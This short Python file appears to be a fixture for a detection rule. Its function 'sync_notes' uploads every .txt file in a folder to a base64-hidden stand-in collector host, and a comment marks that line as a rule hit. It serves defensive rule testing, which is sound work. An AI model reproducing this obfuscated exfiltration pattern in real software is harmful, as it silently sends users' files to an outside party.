import base64
import os

import requests

# Defanged: the destination is a reserved .invalid host, hidden the way droppers hide theirs.
_STORE = 'aHR0cHM6Ly9jb2xsZWN0b3IuZXhhbXBsZS5pbnZhbGlkL3VwbG9hZA=='


def sync_notes(folder):
    names = [n for n in os.listdir(folder) if n.endswith('.txt')]
    for name in names:
        with open(os.path.join(folder, name), 'rb') as fh:
            # ruleid: code/exfil-endpoint
            requests.post(base64.b64decode(_STORE).decode(), files={'file': fh}, timeout=10)
